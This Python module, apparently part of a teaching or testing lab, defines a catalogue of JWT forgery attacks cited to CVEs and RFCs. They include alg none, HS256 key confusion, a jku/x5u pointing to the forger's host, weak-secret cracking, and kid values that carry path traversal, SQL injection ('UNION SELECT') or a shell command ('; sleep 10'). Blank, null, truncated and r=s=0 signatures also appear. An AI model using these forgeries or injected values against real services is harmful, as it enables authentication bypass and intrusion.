"""Attacks on the key and the algorithm: the token itself says how it is to be verified.

Attacks on the signature: none, half of one, or one that fits everything.
"""

from __future__ import annotations

import hashlib
import hmac

from scopekit.lab.grid.attack import PAIRS, attack, attack_on_rule
from scopekit.lab.grid.broken_states import PUBLIC_FILE, WORD, keys_in_files, keys_in_sql, secret_from_a_list
from scopekit.lab.grid.forging import FORGER, compact, der, flipped, keyed, public_key_of, under, under_old, unsigned
from scopekit.lab.grid.scene import ELSEWHERE, Scene

WORDS = (b"secret", b"password", b"changeme", b"your-256-bit-secret", WORD)
"""The beginning of a word list; the last of them is long enough for HS256, and is in every list even so."""

# Its own key


@attack("embedded jwk", "key", source="CVE-2018-0114")
def embedded_jwk(scene: Scene) -> str:
    """Signed by a forger, whose key is in the header (jwk)."""
    own = {"alg": FORGER.alg, "kid": FORGER.kid, "jwk": FORGER.to_jwk(private=True)}
    return compact(scene.header | own, scene.forged, FORGER)


@attack("jku", "form", "signature", source="RFC 8725 section 3.10")
def jku(scene: Scene) -> str:
    """The header says where the key is to be had: at the forger's. The API would fetch what they like, too."""
    return compact(scene.header | {"jku": f"{ELSEWHERE}keys.json"}, scene.forged, FORGER)


@attack("x5u", "form", "signature", source="RFC 8725 section 3.10")
def x5u(scene: Scene) -> str:
    """The header says where the key's certificate is to be had: at the forger's."""
    return compact(scene.header | {"x5u": f"{ELSEWHERE}key.pem"}, scene.forged, FORGER)


@attack_on_rule(
    "weak key", "a secret is random, and 32 bytes or more", source="RFC 8725 section 3.5", breaks=secret_from_a_list
)
def weak_key(scene: Scene) -> str:
    """The words of a list are tried on a genuine token, at home, until one of them has signed it."""
    message, signature = scene.good.signing_input, scene.good.signature
    found = [word for word in WORDS if hmac.digest(word, message, hashlib.sha256) == signature]
    return keyed(scene.header, scene.forged, (found or WORDS)[0])


# Its own algorithm


@attack("alg none", "algorithm", source="RFC 8725 section 2.1")
def alg_none(scene: Scene) -> str:
    """Claims written anew, and no signature: the header says that none is needed."""
    return unsigned(scene.header | {"alg": "none"}, scene.forged)


@attack("alg nOnE", "algorithm", source="RFC 8725bis section 3.1")
def alg_none_spelt(scene: Scene) -> str:
    """No signature, and none spelt in another way, for an API that refuses the word in small letters alone."""
    return unsigned(scene.header | {"alg": "nOnE"}, scene.forged)


@attack("key confusion, exposed key", "algorithm", source="CVE-2015-9235", scene=PAIRS)
def key_confusion(scene: Scene) -> str:
    """HS256 with the public key's text for its secret: what everybody may know makes a signature."""
    return keyed(scene.header | {"alg": "HS256"}, scene.forged, scene.public)


@attack("key confusion, derived key", "algorithm", source="RFC 8725 section 2.1", scene=PAIRS)
def key_confusion_derived(scene: Scene) -> str:
    """HS256 with a public key that is nowhere to be had: it is reckoned from two genuine signatures.

    With ES256 that takes a moment. With RS256 it is the greatest common divisor of two numbers of 130 million bits,
    which is out of reach of a lesson in Python alone.
    """
    return keyed(scene.header | {"alg": "HS256"}, scene.forged, public_key_of(scene.good, scene.given(scene.needed)))


# A kid that is more than a name


NAME = "a kid is a name among the keys, and nothing else"


@attack_on_rule("kid: path traversal", NAME, source="RFC 8725 section 3.10", breaks=keys_in_files)
def kid_path(scene: Scene) -> str:
    """The kid leads out of the folder with the keys, to a file that everybody can read."""
    path, content = PUBLIC_FILE
    return keyed(scene.header | {"kid": f"../{path}"}, scene.forged, content)


@attack_on_rule("kid: /dev/null", f"{NAME}; and an empty secret is no key", source="RFC 8725 section 3.10")
def kid_dev_null(scene: Scene) -> str:
    """The kid leads to a file that is always empty, and so is the secret."""
    return keyed(scene.header | {"kid": "../../dev/null"}, scene.forged, b"")


@attack_on_rule("kid: SQL", NAME, source="RFC 8725 section 3.10", breaks=keys_in_sql)
def kid_sql(scene: Scene) -> str:
    """The kid ends the statement that looks it up, and adds one that answers with the forger's secret."""
    injected = f"x' UNION SELECT '{FORGER.material.decode()}"
    return compact(scene.header | {"kid": injected}, scene.forged, FORGER)


@attack_on_rule("kid: command", NAME, source="RFC 8725 section 3.10")
def kid_command(scene: Scene) -> str:
    """The kid goes on as a command, for an API that has a shell fetch its keys."""
    return compact(scene.header | {"kid": "k1; sleep 10"}, scene.forged, FORGER)


@attack("one flipped bit", "signature", source="RFC 7515 section 5.2")
def one_flipped_bit(scene: Scene) -> str:
    """In the signature of the good token."""
    return flipped(scene.good)


@attack("unverified signature", "signature", source="RFC 8725 section 2.1")
def unverified_signature(scene: Scene) -> str:
    """Another subject, under the old signature."""
    return under_old(scene.good, scene.header, scene.forged)


@attack("blank signature", "signature", source="CVE-2020-28042")
def blank_signature(scene: Scene) -> str:
    """Nothing after the second dot, where the header says that something is there."""
    return unsigned(scene.header, scene.forged)


@attack("null signature", "signature", source="CVE-2020-28042")
def null_signature(scene: Scene) -> str:
    """A byte of value zero, which ends a text in some languages: there the comparison ends too."""
    return unsigned(scene.header, scene.forged, b"\0")


@attack("truncated signature", "signature", source="CVE-2020-28042")
def truncated_signature(scene: Scene) -> str:
    """The first byte of a signature, for an API that compares as far as the shorter one goes."""
    return under(scene.good, scene.good.signature[:1])


@attack("blank password", "signature", source="CVE-2019-20933")
def blank_password(scene: Scene) -> str:
    """Signed with a secret of no bytes, for an API whose configuration was never filled in."""
    return keyed(scene.header, scene.forged, b"")


@attack("psychic signature", "signature", source="CVE-2022-21449", scene=PAIRS)
def psychic_signature(scene: Scene) -> str:
    """ES256 with r = s = 0: an equation that multiplies by zero holds for every message."""
    return unsigned(scene.header, scene.forged, bytes(64))


@attack("DER signature", "signature", source="RFC 7518 section 3.4", scene=PAIRS)
def der_signature(scene: Scene) -> str:
    """The genuine ES256 signature as other formats write it: a second text for the same token."""
    return under(scene.good, der(scene.good.signature))
